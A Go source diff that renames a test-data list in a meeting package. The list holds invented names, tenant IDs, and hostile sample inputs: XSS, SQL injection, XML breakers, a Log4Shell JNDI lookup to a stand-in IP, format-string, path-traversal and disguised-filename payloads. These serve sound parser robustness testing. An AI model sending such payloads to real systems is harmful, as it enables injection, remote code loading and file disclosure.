@@ -1,6 +1,6 @@
 package meeting
 
-// Everybody and everything here is invented.
+// All names are made up.
 var (
 	people = []string{
 		"Maren Holt", "Jonas Brandt", "Ana Sørensen", "Dr. Łukasz Wilk", "Chloë O'Neill", "田中 さくら",
@@ -20,8 +20,8 @@ var (
 	tenants = []string{
 		"0e3b6f0a-6a52-4f0e-9f64-3f7a54c2d101", "7a1d2c3e-91b7-4c55-8d2f-0c9be0a4e202",
 	}
-	// hostile is what scanners put in front of an address: whatever breaks a careless reader.
-	hostile = []string{
+	// hostileNames are the names in the addresses of scanners. They break careless parsers.
+	hostileNames = []string{
 		"100", "<script>alert(1)</script>", "' OR 1=1 --", "]]>", "</displayName></callLeg>", "&amp;&lt;&bogus;",
 		"${jndi:ldap://192.0.2.66/a}", "sipvicious", "%s%n%x", "\u202egnp.exe", "..\\..\\..\\etc\\passwd", "🛸🛸🛸",
 	}
